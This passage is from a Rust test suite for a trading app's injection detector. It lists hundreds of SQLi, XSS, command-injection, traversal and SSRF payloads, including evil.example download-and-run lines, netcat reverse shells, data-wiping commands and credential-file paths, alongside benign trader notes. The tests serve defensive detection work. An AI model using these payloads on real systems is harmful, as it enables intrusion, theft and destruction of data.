    assert_attacks(&["1 union select name from sysusers--", "x' or 1 in (select name from master..sysobjects)--"], Class::Sqli);
    assert_attacks(&["[].constructor.constructor('alert(1)')()", "eval(/alert(1)/.source)", "\"-alert?.(1)-\"", "';import(`//x.ss`)//"], Class::Xss);
    assert_attacks(&["$(whoami)", "$(printf '\\x41')", "$(/tmp/x.sh)"], Class::Cmdi);
}

#[test]
fn a_comment_in_words_after_plain_values_is_an_aside() {
    assert_benign(&["'AAPL' or 'MSFT' -- pick one", "'buy' or 'sell' -- ask the desk first", "1 or 2 -- lots, not more"], Context::Auto);
    // A payload's comment is empty or one token; with a function it counts whatever follows.
    assert_attacks(&["'a' or 'b' --", "1 or 2 -- kRtO", "' or sleep(5) -- wait for it"], Class::Sqli);
}

#[test]
fn random_passwords_are_not_attacks() {
    // Faker's passwords (special characters at random), each once a false alarm.
    assert_benign(&["%@2ITpthv#", "10LSI55a&W", "5PY$ZfUc&w", "8nwx2uF&W+", "@29zaAQyT#", "@@O4JMpVH^", "@@h8uRph^!", "QK8jEef(#@", "Wms@@MWd$9", "w&W&7WjMOm"], Context::Auto);
    // The rules they touched still catch their payloads.
    assert_attacks(&["1 and @@version#", "' union select @@hostname--", "sleep(5)#"], Class::Sqli);
    assert_attacks(&["; w", "| w", "&& w"], Class::Cmdi);
}

#[test]
fn describe_after_a_breakout_and_a_lone_shell_comment() {
    assert_attacks(&["\\'; desc users; --", "x'; describe accounts"], Class::Sqli);
    assert_attacks(&["'; id #", "\"; id #", "|uname #"], Class::Cmdi);
    assert_benign(&["ORDER 7; desc by size", "sort; desc users later", "ID 7; id #7 cancelled", "cat #2 bond; see note"], Context::Auto);
}

#[test]
fn notes_of_semicolon_separated_abbreviations() {
    assert_benign(&["id 7; qty 100", "ls 100;ps 3", "time 10:00; date 12/5", "id+7;qty+100", "ps 3; id 12; fill at 101.5"], Context::Auto);
    assert_attacks(&["id; ls", "ls 100;cat /etc/passwd", "sleep 5; id", "id 7; ls -la /"], Class::Cmdi);
}

/// Found by a review of the rules added for samples outside the corpus: notes they flagged,
/// and variants of their payloads they missed.
#[test]
fn review_of_the_held_out_rules() {
    assert_benign(
        &[
            // `#` as a number sign, not a shell comment
            "Call broker; ID # 55123",
            "Earnings; ID # TBD",
            "Smith;ID#4471",
            "Smith|ID#4471|NYSE|100",
            "| ID # | Ticker | Qty |",
            "Paid; CC#4421 on file",
            "Q3 bonds; Cat#12",
            "Rack B; host # 3 down",
            "Signed form; id # pending",
            "注文; ID#5521",
            "id 7; qty 100; cat # 2",
            "ID 5;ps 10;ls 200;host # 1",
            "Done; then id 77 closed",
            "Closed all; then cat 2 bonds",
            // markdown code and money slang are not identifier or dollar-quote breakouts
            "Run `SELECT * FROM fills` after the close",
            "sort with `ORDER BY pnl DESC` in the report",
            "`WHERE qty > 0` filter is missing",
            "Risk $$ or 1% per trade, never more",
            "$$ or 5% whichever is less",
            "Easy $$ where VIX > 30",
            "Lost $$ -- ouch",
            // numbered notes, imports, Java web apps, short asides
            "1) where RSI > 70 sell half",
            "2) where price < 50 buy 100",
            "Import ('fills.csv') failed twice",
            "CSV import (\"Schwab export\") done",
            "src/main/webapp/WEB-INF/web.xml deployed",
            "Moved config to WEB-INF/classes",
            // (a one-word aside, `1 or 2 -- lots, ok`, still alarms: `0 OR 1 -- pwnd` is a payload)
            // second review
            "Send names; id #s to follow",
            "Client Smith; id #: 4471",
            "Earnings call; id #TBD",
            "Rack 4; host #web1 down",
            "Great run today; cat #trading",
            "Do not chase; ps 100; stop 9.5",
            "If breakout; ps 300; stop 9.80",
            "Done for today; id 4471; qty 100",
            "Range: $[120-125]",
            "jsonpath $[last-1].price",
            "Eval (this, NVDA) after earnings",
            "Confirm (this, AAPL, MSFT) with broker",
            "Scale out; if ps > 500 cut half",
            "Buy 100; then ps > 500 trim",
            "Webinar today; nice host - great tips",
            "$(this).val()",
            "2) where 50 > RSI, buy",
            "import('./fills.csv') failed",
            "注文 if 約定; ID 5521; 東証",
        ],
        Context::Auto,
    );
    assert_attacks(
        &[
            "$(halt)",
            "$(uptime)",
            "$(node)",
            "a;else id;fi",
            "x;do ps aux;done",
            "x;if id;then :;fi",
            // (`1;id #x` passes: `#x` reads like `#trading`, a hashtag)
            "|id #-",
            "1;command ls -la",
            // (`1;nice cat .env` passes: `; nice host - great tips` is a note)
            "echo QWERTY$[12+34]QWERTY",
            "`expr 12 + 34`",
            "`sleep+5` x",
            ";sleep+5 x",
        ],
        Class::Cmdi,
    );
    assert_attacks(
        &[
            "\"-print?.()-\"",
            "'-top?.print?.()-'",
            "\"-alert?. (1)-\"",
            "\"-alert?.call(null,1)-\"",
            "<img+src=x+onerror=a=prompt,a()>",
            "<a/+/oNMousEOver+=+a=prompt,a()> v3dm0s",
        ],
        Class::Xss,
    );
    assert_attacks(
        &[
            "+5977) WHERE 3096=5125 OR CASE WHEN 9654=8166 THEN 2837 ELSE JSON('getH') END -- -",
            "NULL) WHERE 3096=5125 OR CASE WHEN 9654=8166 THEN 2837 ELSE JSON('getH') END -- -",
            "$$ (SELECT (CASE WHEN (9001=4723) THEN 1746 ELSE 1 END) FROM DUAL) -- -",
        ],
        Class::Sqli,
    );
    assert_attacks(&["/WEB-INF/web.xml", "WEB-INF/classes/app.properties", "./WEB-INF/web.xml", "/usr/local/tomcat/webapps/ROOT/WEB-INF/web.xml"], Class::Traversal);
    // second review: payloads the first fixes let through
    assert_attacks(
        &["$$ OR 1=1--", "$$ UNION SELECT usename,passwd FROM pg_shadow--", "Total qty`,(SELECT SLEEP(5))AS`x", "0 OR 1 -- pwnd"],
        Class::Sqli,
    );
    assert_attacks(&[";cat 1 index.php", "$(IEX(iwr http://evil/a.ps1))"], Class::Cmdi);
    assert_attacks(&["-1) WHERE username='admin'-- -"], Class::Sqli);
    assert_attacks(&["';import('./x.js')//"], Class::Xss);
}

/// Shapes from wapiti3's payload files (`wapitiCore/data/attacks`, PyPI wapiti3 3.3.2) that the
/// check missed, written here with other values and spacing, and the near-miss notes next to
/// them.
#[test]
fn wapiti_shapes() {
    assert_attacks(
        &[
            "php://filter/convert.base64-encode/resource=index.php",
            "php://filter/read=string.rot13/resource=config",
            "PHP://input",
            "expect://id",
            "phar:///tmp/upload/avatar.jpg/shell",
            "data:;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
            "data:text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
            "index.php::$DATA",
            "config.asp::$data",
            "/etc/services",
            "/etc/os-release",
            "../../../../etc/hostname",
        ],
        Class::Traversal,
    );
    assert_attacks(
        &[
            "x;exit(md5('probe'));//",
            "\";die(md5(1));#",
            "'.print(md5(7)).';//",
            "';d=new Date();do{c=new Date();}while(c-d<5000);//",
            ";sleep(5);//",
        ],
        Class::Cmdi,
    );
    assert_attacks(&["7 src=http://evil.example/x.js", "abc src=//cdn.evil/p.js", "x src=//14.rs", "x src=//evil.example/x.mjs", "x src=/\\evil.example/x"], Class::Xss);
    assert_benign(&["see src=https://reuters.com/markets/story-123 for the fill"], Context::Auto);
    assert_attacks(&["compress.zlib://uploads/a.gz", "glob:///var/www/*", "zip://uploads/avatar.jpg%23shell"], Class::Traversal);
    assert_benign(
        &[
            "Mr. Smith (CEO) #",
            "Mr. Smith (CEO); #1 priority",
            "see docs.php for details; call me (ext 42);",
            "php: 8.2 upgrade planned",
            "data: 2024;base64, encoded export attached",
            "note: a;b(c) then d",
            "Bought 100 AAPL; sold (partial) 50 // check",
            "Ratio 3:1 ($DATA feed)",
            "index.php",
            "Dinner (team); // later",
            "Trade plan. Buy(100); sell later",
            "srcfile=report.js uploaded",
            // (review: sentences, PHP static properties, XML in base64, wrappers named in prose)
            "Mr. Smith (VIP); #",
            "Entry. Stop(1.10); #",
            "TODO. refresh(); //",
            "self::$data reset",
            "Cache::$data holds the quotes",
            "data:application/xml;base64,PD94bWwgdmVyc2lvbj0iMS4wIj8+",
            "read the raw body from php://input",
            "phar:// archives disabled",
            "hosting etc/services",
        ],
        Context::Auto,
    );
    assert_attacks(
        &["a;exit(md5(1));//x", "');print(md5(1));//", "';print(md5(1));$a='", "x;system(id);?>"],
        Class::Cmdi,
    );
    assert_attacks(&["zip://uploads/a.zip#shell.php", "C:\\inetpub:$i30:$index_allocation", "admin:$I30:$INDEX_ALLOCATION", "index.php:x:$DATA"], Class::Traversal);
    assert_attacks(&["test@x.com';exit(md5(1));//"], Class::Cmdi);
}

/// Short technical prose (package summaries from PyPI and npm, 926 000 of them measured in
/// session 12): tool and language names and JavaScript names written about, not run.
#[test]
fn tools_named_in_prose() {
    assert_benign(
        &[
            "A CLI & Python library to fetch real-time geo-data",
            "A fix for Poetry; Python dependency management and packaging made easy.",
            "Curl like tool with AWS request signing",
            "Netcat with cmd exec, connect, listen and (local/remote) port-forwarding modes.",
            "Tool & python package for calculating genome wide pileup mappability",
            "五彩 Python API | python API for wucai",
            "An angular (8+) SDK for secure access to the LUSID&reg; by FINBOURNE web API",
            "Teradata coding standards regarding linting, commit standards, & more",
            "A powerful print() replacement with colors, tables, effects, and logging",
            "A module for evaluating math expressions without eval()",
            "Replace alert() with a toast in the order screen",
            "Promised Window.open();",
            "Bought on Monday & Python desk confirmed",
            "A package for boolean conditions (uses eval) IN ORDER.",
            "Define agents (tools + system prompt) in YAML",
            "LLM-judge evaluators (G-Eval) for the desk",
            "Open Collaboration Platform MCP server for Claude Desktop [BETA]",
            "see this [chart] before the open",
        ],
        Context::Auto,
    );
    assert_attacks(
        &[
            "& Dir C:\\",
            "| Python -c 'import os'",
            "& python x.py",
            "| python3",
            "; perl -e 'print 1'",
            "a&copy C:\\x y",
            "; Whoami",
            "Curl http://evil.example/x.sh | sh",
            // (review: Windows ignores case; a cut or extensionless script name; an entity
            // that cmd.exe reads as `reg add`)
            "127.0.0.1 & Net user hacker P@ss1 /add",
            "127.0.0.1 & Hostname",
            "127.0.0.1 | Ver",
            "127.0.0.1 && Set",
            "x; Id",
            "Nslookup abc123.oast.fun",
            "Certutil urlcache",
            "127.0.0.1; python reverseshell.py",
            "127.0.0.1 | php uploadedshell.php",
            "127.0.0.1; python x",
            "127.0.0.1; perl backdoor",
            "x&reg;add HKCU\\Software\\Run /v x /d c:\\u.exe",
        ],
        Class::Cmdi,
    );
    assert_attacks(
        &[
            "onerror=print()",
            "';print()//",
            "print()",
            "\"><svg onload=alert()>",
            "javascript:alert()",
            "x';eval(atob('YWxlcnQoMSk='));//",
            "window.open('//evil')",
            "';void alert();//",
            "\"-typeof alert()-\"",
            "';throw print()//",
            "${void alert()}",
            "[1].map(alert)",
            "x onerror=alert)",
            "top['al'+'ert'](1)",
            "self[\"alert\"](1)",
        ],
        Class::Xss,
    );
    // (a sink's match may hold multi-byte white space right after a capital: no panic)
    for v in ["Alert\u{3000}(1)", "Print\u{3000}()", "Window\u{3000}.open(1)", "Eval\u{2003}()"] {
        let _ = check(v, Context::Auto);
    }
}

/// The syntax-error probe scanners append (wapiti's `'"(` after a value, sqlmap's heuristic
/// run of quotes and parentheses): an attack in the auto context, not in free text, where a
/// trader may quote a quote.
#[test]
fn quote_and_parenthesis_probe() {
    assert_attacks(&["1\u{bf}'\"(", "John'\"(", "abc'\".(),", "7)\"'"], Class::Sqli);
    for probe in ["1\u{bf}'\"(", "abc'\".(),"] {
        assert!(!check(probe, Context::FreeText).is_attack, "{probe:?} in free text");
    }
    assert_benign(
        &["He said \"it's fine\" (twice)", "5'10\" (tall)", "'AAPL' (\"Apple\")", "Use \"'\" (a single quote) as the delimiter"],
        Context::Auto,
    );
}

/// Shapes of the payload lists of fray and commonhuman-payloads (PyPI) and of brs-kb's XSS
/// knowledge base that the check missed (session 13), with the notes they must not catch.
#[test]
fn payload_list_shapes() {
    assert_attacks(
        &[
            "' AND 0 order by 1-- -",
            " ORDER BY 3-- -",
            "#\norder#\nby#\n2-- -",
            "' Union Distinctrow Select 'x',NULL,NULL-- -",
            "1'\u{a0}OR\u{a0}1=1--",
            "x'\u{a0}union\u{a0}select\u{a0}password\u{a0}from\u{a0}users--",
        ],
        Class::Sqli,
    );
    assert_attacks(
        &[
            "; id # CVE-2026-2999",
            "1;id #x",
            "; java -jar reverse.jar evil.example 4444",
            ";node -e \"require('child_process')\"",
            ";ip addr",
            ";ss -tulpn",
            "; waitfor /t 5 pause",
            ";{id,}",
            ";{cat,/etc/hostname}",
            ";$'\\x69\\x64'",
            ";$'\\151\\144'",
            ";dig evil.example",
            "| dig x.attacker.example",
            "=cmd|'/C calc'!A0",
            "@SUM(1+1)*cmd|'/C calc'!A0",
            "<w:fldSimple w:instr=\"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe /k calc.exe\">",
            "@{System.Diagnostics.Process.Start(\"cmd\", \"/c id\");}",
        ],
        Class::Cmdi,
    );
    assert_attacks(
        &[
            "setTimeout(alert,0,'x')",
            "Reflect.apply(alert,null,[1])",
            "new SharedWorker('//evil.example/w.js')",
            "Function('return this')()",
            "new Function('alert(1)') ()",
            "alert(1*1)",
            "alert(!0)",
            "alert(0x1)",
            "alert(...[1])",
            "[,alert][1](1)",
            "+{valueOf:alert}",
            "Object.defineProperty(window,'x',{get:alert})",
            "alert.bind(null,1)()",
            "[1].reduce((a,b)=>alert(b))",
            "ExternalInterface.call(\"alert\", 1)",
            "data:text/plain;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
        ],
        Class::Xss,
    );
    assert_attacks(
        &[
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://[fd00:ec2::254]/latest/meta-data/",
            "/run/secrets/kubernetes.io/serviceaccount/token",
        ],
        Class::Traversal,
    );
    assert_benign(
        &[
            "order by 3 -- urgent, before the close",
            "{action: alert}",
            "[email, alert]",
            "notify: [sms, alert]",
            "we need ip address of the gateway",
            "login & ip route table",
            "Login User Details & IP Address",
            "set stop; java 17 upgrade scheduled",
            "node 5 restarted; ss 40 lots",
            "A better `node -p`.",
            "Note; id #12 closed",
            "id # 5521",
            "host example.com down; dig deeper tomorrow",
            "Total = cmd|balance",
            "169.254.169.254 is link-local",
            // (the review's notes: markdown, config files, DDE links, C#, YAML)
            "Start the service with `java -jar build/libs/app.jar`",
            "see `ip addr` output on the box",
            "resolve it: `dig example.com`",
            "port=5432; host db2.example.com is the standby",
            "; id # primary key of the trades table",
            "1;ps #3 position size",
            "| id # | side | qty |",
            "Return fields `{id,name,email}` only",
            "IFS=$'\\012\\011' read -r a b",
            "=EXCEL|'C:\\Reports\\[Book1.xlsx]Sheet1'!R1C1",
            "Blocked DDEAUTO field in inbound attachment",
            "Open browser: Process.Start(\"https://example.com/help\")",
            "confirm (2x100)",
            "Confirm(1/2) fill",
            "Target: confirm, Asset: confirm,",
            "{budget: alert, owner: desk}",
            "levels: [{name: low},alert]",
            "function ('calc_pnl') (see below)",
            "allow 169.254.169.254/32 and 100.100.100.200/32 on the firewall",
            "IMDSv2 enforced; hop limit 1 for 169.254.169.254/latest/api/token",
        ],
        Context::Auto,
    );
    assert_attacks(&["ORDER BY 1,2,3-- -", "ORDER BY 3 DESC-- -"], Class::Sqli);
    assert_attacks(
        &[
            "; java -Xmx1g -jar x.jar",
            "; node -p process.env",
            "; ss -t",
            "& WAITFOR /T 5 pause",
            "| dig @8.8.8.8 x.example",
            ";$'\\x69'$'\\x64'",
            ";$'i\\x64'",
            ";{/usr/bin/id,}",
            "=cscript|'/e:jscript x.js'!A0",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "Process . Start(\"cmd.exe\", \"/c whoami\")",
        ],
        Class::Cmdi,
    );
    assert_attacks(
        &[
            "alert.bind(window)(1)",
            "Reflect.apply(self.alert,null,[1])",
            "{valueOf : top.alert}",
            "alert(-1)",
            "alert(~0)",
            "alert(1,2)",
            "alert(1n)",
            "alert(1==1)",
            "Function('alert(1)').call()",
            "new Worker(' blob:https://x.example/1')",
            "data:text/html;base64,PFNDUklQVD5hbGVydCgxKTwvU0NSSVBUPg==",
        ],
        Class::Xss,
    );
    assert_attacks(
        &[
            "http://[::ffff:169.254.169.254]/latest/meta-data/",
            "http://2852039166/latest/meta-data/",
            "http://metadata/computeMetadata/v1/instance/",
            "http://instance-data/latest/meta-data/",
            "/var/run/secrets/eks.amazonaws.com/serviceaccount/token",
        ],
        Class::Traversal,
    );
}

/// Shapes of PayloadsAllTheThings' lists that the shared corpus does not hold (dotdotpwn's
/// encodings, the file inclusion lists, error-based SQL, SSI/ESI and template probes), and the
/// paths and notes they must not catch.
#[test]
fn file_inclusion_shapes() {
    assert_attacks(
        &[
            "..%c0%9v..%c0%9vetc%c0%9vpasswd",
            "%c0%ee%c0%ee%c1%1c%c0%ee%c0%ee%c1%1cboot.ini",
            ".?%%32%%66.?%%32%%66etc%%32%%66passwd",
            "%f8%80%80%80%ae%f8%80%80%80%ae%f8%80%80%80%afetc%f8%80%80%80%afissue",
            "..%bg%qf..%bg%qfetc%bg%qfpasswd",
            ".%00.0x2fetc0x2fpasswd",
            "??%uF025??%uF025etc%uF025issue",
            "%c0%5e%c0%5e%c0%9vetc%c0%9vissue",
            "/0x2e0x2e/0x2e0x2e/",
            "..2f..2f..2fetc2fpasswd",
            "Li4vLi4vLi4vZXRjL3Bhc3N3ZA==",
            "/usr/local/apache2/conf/httpd.conf",
            "/opt/lampp/logs/error_log",
            "/var/log/nginx/access.log",
            "/proc/version",
            "/etc/bashrc",
            "C:\\xampp\\apache\\conf\\httpd.conf",
            "C:/program files (x86)/apache group/apache/conf/httpd.conf",
            "C:/windows/panther/unattend/sysprep.xml",
            "C:/documents and settings/administrator/ntuser.ini",
            "/usr/local/apache/logs/access_log%00",
            "/var/lib/php/session/sess_abc123",
            "convert.iconv.UTF8.CSISO2022KR",
            // (the review's evasions)
            "page=/usr/local/apache2/conf/httpd.conf",
            "'/usr/local/apache2/conf/httpd.conf",
            "C:\\PROGRA~1\\APACHE~1\\conf\\httpd.conf",
            "~/.pgpass",
            "/root/.psql_history",
            "\\xampp\\php\\php.ini",
            "/var/log/messages",
            "/var/lib/php5/sess_abc123",
            "Li8uLi8uLi9ldGMvcGFzc3dk",
            "convert.iconv.UTF8/CSISO2022KR",
        ],
        Class::Traversal,
    );
    assert_attacks(&[" ORDER BY 12-- ", " ORDER BY 27# ", " HAVING 1=0-- "], Class::Sqli);
    assert_attacks(
        &[
            "<!--#flastmod virtual=\"echo.html\" -->",
            "<esi:include src=\"http://evil.example/\"/>",
            "<#assign ex = \"freemarker.template.utility.Execute\"?new()>${ ex(\"id\")}",
        ],
        Class::Cmdi,
    );
    // (fuzzdb's lists: a breakout into a sink left open, a NUL inside a tag name, base64 markup,
    // a Bitnami stack's logs)
    assert_attacks(&["'); alert('XSS", "<SCR\0IPT>alert(\"XSS\")</SCR\0IPT>", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="], Class::Xss);
    assert_attacks(&["/opt/bitnami/apache2/logs/access_log"], Class::Traversal);
    assert_benign(&["It's fine'); see alert settings", "QWxhZGRpbjpvcGVuIHNlc2FtZQ==", "<b>bold</b>\0"], Context::Auto);
    assert_benign(
        &[
            "/var/data/marketdata/2024/06/03/AAPL.parquet",
            "/srv/php/app/index.html",
            "/api/v2/php/handlers",
            "/etc/ssl/certs/ca-certificates.crt",
            // (PostgreSQL's configuration named in a note; a value that is only its path is a
            // probe: see second_hunt_shapes)
            "max_connections = 200 in postgresql.conf, pgbouncer in front",
            "chmod 600 ~/.pgpass fixed the password prompt",
            "C:\\Users\\trader\\Documents\\pnl.xlsx",
            "\\\\nas01\\exports\\fills 2024-06.csv",
            "/docs/apache-license.txt",
            "/var/log/oms/oms-2024-06-03.log is full, rotate it",
            "check the log at /var/log/oms/oms-2024-06-03.log, line 4412",
            "Order by 2 #",
            "GROUP BY 1 --",
            "convert the report to PDF",
            // (the review's: a trading system's own paths and prose)
            "/var/log/tradeguard/eod.log",
            "/opt/oms/var/log/audit.csv",
            "/etc/pgbouncer/pgbouncer.ini",
            "/etc/cron.d/eod-export",
            "/opt/app/etc/oms.yaml",
            "/api/v1/proc/orders",
            "/reports/sess_asia_close.csv",
            "/home/dba/my.cnf",
            "/var/lib/php/sessions",
            "/var/mail/ops",
            "/Users/trader/.profile",
            "C:\\Windows\\Temp\\fills.csv",
            "D:\\tomcat\\logs\\",
            "/var/log/oms is full at 09.30",
            "Whats new?new()",
            "Price?./proc",
            "filled 50%, pending.../processing",
            "<esi:comment text=\"x\"/>",
            "see convert.iconv.utf8.utf16 in the PHP docs",
        ],
        Context::Auto,
    );
}

/// Shapes from the 2026-12-06 review's hunt (its own payloads, not a public list): a form's `+`
/// around SQL keywords, the login bypass with LIMIT, paths spelled with `/./` and `//`, Windows
/// network paths to scripts, cmd.exe's carets, PowerShell's download-and-run; and the notes it
/// found flagged.
#[test]
fn review_hunt_shapes() {
    assert_attacks(
        &[
            "1+union+select+1,2,3--+",
            "-1+union+all+select+null,null--",
            "1+order+by+5--+",
            "admin' or 1 limit 1#",
            "admin' or true limit 1-- -",
            "\" or 1 limit 1#",
            "'; CREATE EXTENSION dblink;--",
            "1; CREATE EXTENSION plpython3u;--",
            "'; CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example');--",
        ],
        Class::Sqli,
    );
    assert_attacks(&["/etc/./passwd", "/etc//passwd", "//etc//shadow", "..//..//etc//passwd", "\\\\evil.example\\share\\x.php", "\\\\evil.example@SSL\\DavWWWRoot\\x.php", "\\\\10.0.0.5\\share\\evil.dll"], Class::Traversal);
    assert_attacks(
        &[
            "& w^h^o^a^m^i",
            "| w^h^o^a^m^i",
            "; iex (iwr http://evil.example/p.ps1)",
            "& iex $env:PAYLOAD",
            "; IEX (New-Object Net.WebClient).DownloadString('http://x/p.ps1')",
            "; Start-Process calc.exe",
            "{{person.secret}}",
            "{{7*7}}",
            "{{settings.SECRET_KEY}}",
        ],
        Class::Cmdi,
    );
    assert_benign(
        &[
            "Benchmark(SPY)",
            "{{ticker}} daily summary",
            "{{ }} placeholder in the email template",
            "Client's order; id 5521 -- check fills",
            "AAPL | id 4521 | filled",
            "rock+and+roll",
            "S&P+500+futures+or+options",
            "\\\\fs01\\reports\\daily.xlsx",
            "https://example.com//path//to",
            "C++ developer notes",
            "Create extension list for the OMS",
            "alter server settings tomorrow",
            // (a third review's notes: IEX is an exchange; CREATE/ALTER/DROP words of prose)
            "partial fill | IEX | 200 shares",
            "Venue: NYSE; IEX 200 @ 12.5",
            "ARCA; iex",
            "FIX gw down; create server ticket",
            "Compliance; alter policy on margin calls",
            "Filled 200; drop policy review tomorrow",
            "Cancel; drop subscription Bloomberg",
            "Closed; create extension request for OMS",
            "TODO; create publication for clients",
        ],
        Context::Auto,
    );
}

/// A value that joins one long variable many times (`;a=iiii...;$a$a$a...`) is judged without
/// building the joined word (it was quadratic in memory: one 80 kB value took 1.6 GB).
#[test]
fn assembled_command_is_bounded() {
    let n = 200_000;
    let v = format!(";a={};{}", "i".repeat(n), "$a".repeat(n / 2));
    let r = check(&v, Context::Auto);
    assert!(r.findings.iter().all(|f| f.rule_id != "cmdi.separator_command"), "{:?}", r.findings.iter().map(|f| f.rule_id).collect::<Vec<_>>());
}

/// Shapes of the session after: statements of any keyword between a breakout and a comment, a
/// CTE that writes, sensitive files wherever they are, SSRF URL schemes, a shell named by a
/// variable, empty expansions inside a command word, PowerShell cmdlets, programs run from a
/// temporary folder, options that make a program run a command.
#[test]
fn second_hunt_shapes() {
    assert_attacks(
        &[
            "'; TABLE users;--",
            "'; LOCK TABLE orders IN ACCESS EXCLUSIVE MODE;--",
            "'; SET GLOBAL general_log='ON';--",
            "'; ROLLBACK;--",
            "'); SHOW ALL;--",
            "'; WITH d AS (DELETE FROM orders RETURNING *) SELECT 1",
            "1; WITH x AS (UPDATE accounts SET balance = 0 RETURNING id) SELECT count(*) FROM x",
            "' UNIunionON SELselectECT 1,2--",
            "'; WITH \"d\" AS (DELETE FROM orders RETURNING *) SELECT 1",
            "'; WITH d(x) AS (DELETE FROM orders RETURNING id) SELECT 1",
            "'; WITH d AS MATERIALIZED (DELETE FROM orders RETURNING *) SELECT 1",
            "1; TABLE users;--",
            "'; TABLE users",
            "'; TABLE public.users;",
            "'; LOCK TABLE orders",
            "'); SHOW ALL",
            "-1 uniUNIONon selSELECTect password frFROMom users",
        ],
        Class::Sqli,
    );
    assert_attacks(
        &[
            "/var/www/html/.env",
            "/var/lib/postgresql/.psql_history",
            "/etc/postgresql/15/main/pg_hba.conf",
            "/var/lib/postgresql/data/postgresql.auto.conf",
            "C:\\Program Files\\PostgreSQL\\15\\data\\pg_hba.conf",
            "~postgres/.pgpass",
            "/var/log/postgresql/postgresql-15-main.log",
            "/run/secrets/db_password",
            "/app/.env.prod.local",
            "http://attacker.example/shell.txt?",
            "ftp://attacker.example/shell.php",
            "https://kubernetes.default.svc/api/v1/namespaces/default/secrets",
            "http://localhost:2375/containers/json",
            "C:\\ProgramData\\MySQL\\MySQL Server 8.0\\my.ini",
            "/var/run/docker.sock",
            "/etc/kubernetes/admin.conf",
            "C:\\Windows\\NTDS\\ntds.dit",
            "/home/app/.aws/credentials",
            "/dev/tcp/10.0.0.5/4444",
            "gopher://127.0.0.1:6379/_FLUSHALL",
            "dict://127.0.0.1:11211/stats",
        ],
        Class::Traversal,
    );
    assert_attacks(
        &[
            ";$0 -c id",
            ";${SHELL} -c id",
            "&%COMSPEC% /c whoami",
            "&%windir%\\system32\\whoami.exe",
            ";i$()d",
            ";who$@ami",
            ";i${x}d",
            "| Get-ChildItem C:\\Users",
            ";Remove-Item -Recurse -Force C:\\data",
            "; [System.Diagnostics.Process]::Start('calc.exe')",
            "& iex(irm http://evil.example/a)",
            ";chmod +x /tmp/x;/tmp/x",
            "x%0a./x.sh",
            ";unset HISTFILE",
            ";a=i;b=d;$a$b",
            ";:(){ :|:& };:",
            "-oProxyCommand=\"sh -c id\"",
            "--checkpoint=1 --checkpoint-action=exec=sh shell.sh",
            "&cmd/c whoami",
            "& rd /s /q C:\\data",
            "netsh firewall set opmode disable",
            "wget http://evil.example/x.sh -O /tmp/x",
            "whoami /all",
            ";who``ami",
            ";chmod +s /bin/bash",
            "& C:\\Windows\\Temp\\nc.exe -e cmd.exe 10.10.14.5 4444",
            "--upload-pack=touch /tmp/pwn",
            "--use-compress-program=id",
            // (the review's variants)
            ";\"$0\" -c id",
            ";${SHELL:-/bin/sh} -c id",
            ";$0<<<id",
            "&%ComSpec%/c whoami",
            ";chmod +xs /tmp/x",
            ";chmod a+rwx /tmp/x",
            "1.2.3.4 4444 -e /bin/sh",
            "x -exec /bin/sh -c id",
            ";a=i;$HOME;b=d;$a$b",
            ";a=i b=d;$a$b",
            ";a=i;b=d;\"$a$b\"",
            "| Get-Process",
            ";who$( )ami",
            ";who${xyz}ami",
            ";who$1ami",
            ";a=who;b=ami;c=$a$b;$c",
            ";wevtutil cl Security",
        ],
        Class::Cmdi,
    );
    assert_benign(
        &[
            "/var/lib/postgresql/15/main",
            "/srv/exports/trades_2024.csv",
            "/opt/app/logs/app.log",
            "Filled; table it for tomorrow",
            "Q3 review; with Ken as lead",
            "'Rollback' was the word; no comment",
            "cost $@ 5 per share; ok",
            "Long | Get-Ahead fund",
            "env=prod; region=eu; $total",
            "see ./docs for details",
            "Run `chmod +x d/t/cryptdisks` for consistency.",
            "ldap://ldap.corp.example/ou=traders",
            // (a sentence about a command, not a command line)
            "wget of the EOD file failed at 6:05am",
            "whoami on the server returns 'trader', not root",
            "curl of the yield curve",
            "Selectselect button twice",
            // (the review's: prices, order types, accounting words, report files, support notes)
            "Fees: $5 stocks; $0 options",
            "Commission & $0 fees",
            "| Commission | $0 |",
            "Fee waived; $0",
            "Buy AAPL @150; stop-loss",
            "Sell 100 TSLA; stop-limit $240",
            "Order type | stop-limit | GTC",
            "Margin call; stop-out $5000",
            "Bad debt; write-off $500",
            "Data feed; add-on $5/month",
            "Client onboarding; set-up",
            "Export done; /tmp/eod_2024.csv",
            "See attachment; ./q3_report.pdf",
            "Call back; query user re: failed margin call",
            "Settings; export path=/reports/eod",
            "Per the clients'; show chart tomorrow -- JB",
            "Checked the clients'; update tomorrow -- JB",
            "5'; set stop 4'6 -- JB",
            "Tier 1 costs $1; tier 2 costs $2",
            "Reserved 'A'; table 4",
            "It's; table it",
            "https://broker.example/help?",
            "ftp://ftp.exchange.example/eod/2024-06-03.csv",
            "https://kubernetes.io/docs/concepts/",
            "Qty 5; table next week;-- ok?",
            "東京 union 株式",
        ],
        Context::Auto,
    );
}

/// Shapes the review of session 16 found missed: a boolean-blind numeric pair, PostgreSQL's
/// regular-expression probe after a quote, cmd.exe's `start` of a program, and a command whose
/// letters are each escaped with a backslash (which the decoder would read as `\n`).
#[test]
fn third_hunt_shapes() {
    assert_attacks(&["1 AND 0", "1 or 1", "-1 OR 1", "' AND password ~ '^a'--", "' or name ~ '^adm' --"], Class::Sqli);
    assert_attacks(&["& start calc", "| start powershell -nop", "; start cmd", ";\\u\\n\\a\\m\\e", "|\\i\\d"], Class::Cmdi);
    assert_benign(
        &[
            "1 and 2",
            "10 or 12",
            "1 and 0.5",
            "Levels 1 and 0",
            "buy & start small",
            "Q&A & start date moved",
            "S&P & start scaling in",
            "Dividends ~ 'quarterly'",
            "Sell; \\Server\\share has the file",
        ],
        Context::Auto,
    );
}

/// Every rule id the detectors can report is listed in `rules()` (`tradeguard.injection_rules`):
/// a finding never names a rule the view does not describe.
#[test]
fn every_reported_rule_is_listed() {
